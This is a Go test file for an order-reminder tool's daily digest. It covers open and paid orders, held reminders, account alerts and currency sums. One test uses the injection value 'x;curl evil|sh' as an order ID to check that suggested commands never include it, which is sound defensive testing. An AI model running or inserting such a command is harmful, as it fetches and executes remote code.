package main

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"nudged/notify"
	"nudged/store"
	"nudged/store/order"
)

// life writes a shop's life straight into the database, each thing at its time.
type life struct {
	*bench
	shop string
}

// onLife runs do in an app whose shop "a" was visited for the first time at first.
func onLife(t *testing.T, first string, do func(l *life)) {
	t.Helper()
	t.Parallel()
	onDigests(t, "0 21 * * *", "UTC", func(b *bench) {
		if _, err := b.db.Enable(t.Context(), "a", when(t, first, "UTC")); err != nil {
			t.Fatal(err)
		}
		do(&life{b, "a"})
	})
}

func (l *life) at(s string) time.Time { return when(l.t, s, "UTC") }

// open is an order of 12 euros that was placed at a time and closes two days later.
func (l *life) open(id, placed string) order.Order {
	at := l.at(placed)
	return order.Order{
		Shop: l.shop, ID: id, Number: "#" + id, Status: order.Unpaid, StatusText: "open", Created: at, Closes: at.Add(2 * aDay),
		Total: order.Money{Minor: 1200, Currency: "EUR"}, Lines: []order.Line{{Title: "Mug", Quantity: 1}, {Title: "Plate", Quantity: 2}},
		Buyer: order.Buyer{Name: "Buyer " + id, Email: order.Email("buyer" + id + "@example.test")},
	}
}

// reads records a visit that ended at a time.
func (l *life) reads(ended string, orders ...order.Order) {
	l.t.Helper()
	l.visit(order.Visit{Shop: l.shop, Kind: order.Scan, At: l.at(ended).Add(-time.Minute), Ended: l.at(ended), Orders: orders, Pages: 1, Outcome: order.OK})
}

func (l *life) visit(v order.Visit) {
	l.t.Helper()
	for i := range v.Orders {
		v.Orders[i].Seen, v.Orders[i].Looked = v.At, v.At
	}
	if _, err := l.db.Record(l.t.Context(), v); err != nil {
		l.t.Fatal(err)
	}
}

func as(o order.Order, status order.Status) order.Order {
	o.Status, o.StatusText = status, string(status)
	return o
}

// sends makes a message go out at a time and come to a state.
func (l *life) sends(key order.ReminderKey, at string, state order.State, cause order.Cause) {
	l.t.Helper()
	r := order.Reminder{Key: key, State: order.Planned, Planned: l.at(at).Add(-time.Minute)}
	l.must(l.db.Plan(l.t.Context(), []order.Reminder{r}))
	if state.Out() || state == order.Parked {
		l.must(l.db.Begin(l.t.Context(), key, "", l.at(at), order.Limit{}))
	}
	r.State, r.Cause, r.Reason, r.Changed = state, cause, "the reason", l.at(at)
	r.Due = l.at(at).Add(aDay)
	l.must(l.db.Settle(l.t.Context(), r, order.Event{At: l.at(at), Key: key, State: state, Cause: cause, Reason: "the reason"}))
}

func (l *life) step(id, step string) order.ReminderKey {
	return order.ReminderKey{Order: order.Key{Shop: l.shop, ID: id}, Step: step, Channel: order.ByEmail}
}

func (l *life) must(err error) {
	if err != nil {
		l.t.Helper()
		l.t.Fatal(err)
	}
}

func (l *life) tells(from, to string) notify.Facts {
	l.t.Helper()
	f, err := l.facts(l.t.Context(), l.at(from), l.at(to), 3, false)
	l.must(err)
	return f
}

func numbers(lines []notify.OrderLine) (out []string) {
	for _, l := range lines {
		out = append(out, l.Number)
	}
	return out
}

func euros(n int64) []order.Money { return []order.Money{{Minor: n, Currency: "EUR"}} }

func TestFactsOfADay(t *testing.T) {
	onLife(t, "2026-05-01 12:00", func(l *life) {
		late, soon, closes := l.open("1", "2026-05-10 10:00"), l.open("2", "2026-05-09 23:00"), l.open("3", "2026-05-08 10:00")
		back, alone, given := l.open("4", "2026-05-09 09:00"), l.open("5", "2026-05-10 08:00"), l.open("6", "2026-05-02 08:00")
		late.Buyer.Phone = "+8613800138000"
		closes.PayFailed = true
		never := l.open("7", "2026-05-10 11:00")
		never.Closes, never.Buyer.Email = time.Time{}, ""
		l.reads("2026-05-09 12:00", as(given, order.Paid), closes, back, l.open("8", "2026-05-09 10:00"))
		l.sends(l.step("4", "first"), "2026-05-09 13:00", order.Sent, "")
		l.sends(l.step("4", "last"), "2026-05-10 09:00", order.Sent, "")
		l.must(l.db.PutCampaign(t.Context(), order.Campaign{Name: "news", State: order.CampaignRunning, Created: l.at("2026-05-10 09:00")}))
		l.sends(l.step("4", order.CampaignStep("news")), "2026-05-10 09:10", order.Sent, "")
		l.sends(l.step("8", "first"), "2026-05-10 09:30", order.Sent, "") // after it had been paid
		l.reads("2026-05-10 09:00", as(l.open("8", "2026-05-09 10:00"), order.Paid))
		l.reads("2026-05-10 12:00", never, late, soon, alone, as(back, order.Paid), as(closes, order.ClosedUnpaid), as(given, order.ClosedRefunded), as(l.open("9", "2026-05-03 10:00"), order.ClosedUnpaid))
		l.reads("2026-05-10 14:00", as(alone, order.Paid))
		l.must(l.db.Plan(t.Context(), []order.Reminder{{Key: l.step("1", "first"), State: order.Planned, Planned: l.at("2026-05-11 10:00")}}))

		f := l.tells("2026-05-09 21:00", "2026-05-10 21:00")
		if f.NewCount != 4 || f.Paid != 2 || f.Refunded != 1 {
			t.Errorf("%d new, %d paid, %d refunded", f.NewCount, f.Paid, f.Refunded)
		}
		if got := numbers(f.Open); !slices.Equal(got, []string{"#2", "#1", "#7"}) || f.Unpaid != 3 || f.ClosingSoon != 0 || !slices.Equal(f.AtRisk, euros(3600)) {
			t.Errorf("open %v of %d, %d closing, at risk %v", got, f.Unpaid, f.ClosingSoon, f.AtRisk)
		}
		if o := f.Open[1]; !slices.Equal(o.Ways, []order.Channel{order.ByEmail, order.BySMS}) || o.NextStep != "first" || o.NextState != order.Planned || !o.NextAt.Equal(l.at("2026-05-11 10:00")) || o.Items != "Mug" || o.More != 1 || !o.New {
			t.Errorf("%+v", o)
		}
		if o := f.Open[2]; o.Ways != nil || o.NextStep != "" {
			t.Errorf("%+v", o)
		}
		if len(f.Recovered) != 1 || f.Recovered[0].Step != "last" || f.Recovered[0].Channel != order.ByEmail {
			t.Errorf("recovered %+v", f.Recovered)
		}
		if len(f.By) != 1 || f.By[0].Step != "last" || f.By[0].Orders != 1 || !slices.Equal(f.By[0].Sum, euros(1200)) {
			t.Errorf("by %+v", f.By)
		}
		if len(f.Closed) != 1 || f.Closed[0].Number != "#3" || !slices.Contains(f.Closed[0].Reasons, notify.PaymentFailed) {
			t.Errorf("closed %+v", f.Closed)
		}
		if len(f.Sent) != 2 || len(f.Campaigns) != 1 || f.Campaigns[0].Today != 1 { // a campaign's message is told with its campaign
			t.Errorf("sent %+v, campaigns %+v", f.Sent, f.Campaigns)
		}
		if later := l.tells("2026-05-10 21:00", "2026-05-11 10:30"); later.ClosingSoon != 2 || later.NewCount != 0 || later.Open[0].New {
			t.Errorf("the next day: %d closing soon, %d new, %+v", later.ClosingSoon, later.NewCount, later.Open)
		}
	})
}

// A hold names the shops, and the one command where an order or a shop can be
// named. An id from a page that a shell would run is not part of any command.
func TestHoldsNameTheirCommand(t *testing.T) {
	onLife(t, "2026-05-01 12:00", func(l *life) {
		hostile := "x;curl evil|sh"
		l.reads("2026-05-10 12:00", l.open("1", "2026-05-10 10:00"), l.open("2", "2026-05-10 10:00"), l.open(hostile, "2026-05-10 10:00"), l.open("3", "2026-05-10 10:00"))
		l.sends(l.step("1", "first"), "2026-05-10 13:00", order.Held, order.CauseShop)
		l.sends(l.step("2", "first"), "2026-05-10 13:00", order.Held, order.CauseShop)
		l.sends(l.step("2", order.CampaignStep("news")), "2026-05-10 13:00", order.Held, order.CauseShop)
		l.sends(l.step("3", "first"), "2026-05-10 13:00", order.Held, order.CauseText)
		l.sends(l.step(hostile, "first"), "2026-05-10 13:00", order.Held, order.CauseLook)
		want := []notify.Hold{
			{Cause: order.CauseShop, Count: 2, Shops: []string{"a"}, Detail: "the reason", Do: "nudged crawl a"},
			{Cause: order.CauseText, Count: 1, Shops: []string{"a"}, Detail: "the reason", Do: "nudged why a/3"},
			{Cause: order.CauseLook, Count: 1, Shops: []string{"a"}, Detail: "the reason"},
		}
		check := func(f notify.Facts) {
			t.Helper()
			if !slices.EqualFunc(f.Holds, want, func(a, b notify.Hold) bool { return fmt.Sprintf("%+v", a) == fmt.Sprintf("%+v", b) }) {
				t.Errorf("holds %+v", f.Holds)
			}
		}
		check(l.tells("2026-05-09 21:00", "2026-05-10 21:00"))
		l.must(l.db.SetNeed(t.Context(), "a", store.Need{At: l.at("2026-05-10 12:30"), Why: "captcha"}))
		want[0].Do = "nudged login a" // what the shop wants of the seller is what helps
		check(l.tells("2026-05-09 21:00", "2026-05-10 21:00"))
		later := l.tells("2026-05-10 21:00", "2026-05-11 12:00")
		slices.SortFunc(later.Holds, func(a, b notify.Hold) int { return strings.Compare(string(b.Cause), string(a.Cause)) })
		if len(later.Holds) != 3 || later.Holds[1].Count != 2 {
			t.Errorf("they wait a day later: %+v", later.Holds)
		}
	})
}

// The seller's own accounts that do not work need the seller; that mail does not go
// out is told on the screen only.
func TestTroublesAreNeeds(t *testing.T) {
	onLife(t, "2026-05-01 12:00", func(l *life) {
		for _, kind := range []notify.AlertKind{notify.AlertSMS, notify.AlertInbox, notify.AlertEmail} {
			l.alarms.raise(t.Context(), kind, "", "535 no", true)
		}
		l.alarms.raise(t.Context(), notify.AlertShop, "a", "down", true) // stands with the shop's health
		kinds := func(mailed bool) (out []string) {
			f, err := l.facts(t.Context(), l.at("2026-05-09 21:00"), l.at("2026-05-10 21:00"), 3, mailed)
			l.must(err)
			for _, n := range f.Needs {
				if n.Words != "535 no" || n.Do != "nudged check --online" {
					t.Errorf("%+v", n)
				}
				out = append(out, n.Kind)
			}
			slices.Sort(out)
			return out
		}
		if got := kinds(true); !slices.Equal(got, []string{notify.NeedInbox, notify.NeedSMS}) {
			t.Errorf("in the mail: %v", got)
		}
		if got := kinds(false); !slices.Equal(got, []string{notify.NeedInbox, notify.NeedMail, notify.NeedSMS}) {
			t.Errorf("on the screen: %v", got)
		}
		l.alarms.lift(t.Context(), notify.AlertSMS, "")
		if got := kinds(true); !slices.Equal(got, []string{notify.NeedInbox}) {
			t.Errorf("after text messages go out again: %v", got)
		}
	})
}

func TestHealthKnowsTheLastGoodVisitOfDaysBefore(t *testing.T) {
	onLife(t, "2026-05-01 12:00", func(l *life) {
		l.reads("2026-05-06 20:00", l.open("1", "2026-05-06 10:00"))
		for _, at := range []string{"2026-05-07 12:00", "2026-05-10 12:00"} {
			l.visit(order.Visit{Shop: "a", Kind: order.Scan, At: l.at(at), Ended: l.at(at), Outcome: order.Unavailable, Words: "503"})
		}
		f := l.tells("2026-05-09 21:00", "2026-05-10 21:00")
		if s := f.Shops[0]; !s.LastGood.Equal(l.at("2026-05-06 20:00")) || s.Failed != 1 || s.Outcome != order.Unavailable || s.Unpaid != 1 {
			t.Errorf("%+v", s)
		}
		if f.Unpaid != 1 || len(f.Open) != 1 {
			t.Errorf("%d open: what is known of a shop that cannot be read stays", f.Unpaid)
		}
	})
}

func TestSums(t *testing.T) {
	var s sums
	for _, m := range []order.Money{{Minor: 5, Currency: "USD"}, {Minor: 1, Currency: "EUR"}, {Minor: 2, Currency: "EUR"}, {Minor: 9}, {Currency: "CNY"}, {Minor: 1<<63 - 1, Currency: "JPY"}, {Minor: 7, Currency: "JPY"}} {
		s.add(m)
	}
	want := []order.Money{{Minor: 3, Currency: "EUR"}, {Minor: 1<<63 - 1, Currency: "JPY"}, {Minor: 5, Currency: "USD"}}
	if got := s.money(); !slices.Equal(got, want) {
		t.Errorf("%v, want %v", got, want)
	}
}

// A shop that says nothing of closing has its newest orders told first: the digest
// shows a few, and the old ones are the least likely to be paid yet.
func TestFactsTellTheNewestFirstWhereNoCloseIsKnown(t *testing.T) {
	onLife(t, "2026-05-01 12:00", func(l *life) {
		old, young, closes := l.open("1", "2026-05-08 10:00"), l.open("2", "2026-05-10 10:00"), l.open("3", "2026-05-09 10:00")
		old.Closes, young.Closes = time.Time{}, time.Time{}
		l.reads("2026-05-10 12:00", old, young, closes)
		f := l.tells("2026-05-09 21:00", "2026-05-10 21:00")
		if got := numbers(f.Open); !slices.Equal(got, []string{"#3", "#2", "#1"}) {
			t.Errorf("open: %v", got)
		}
	})
}
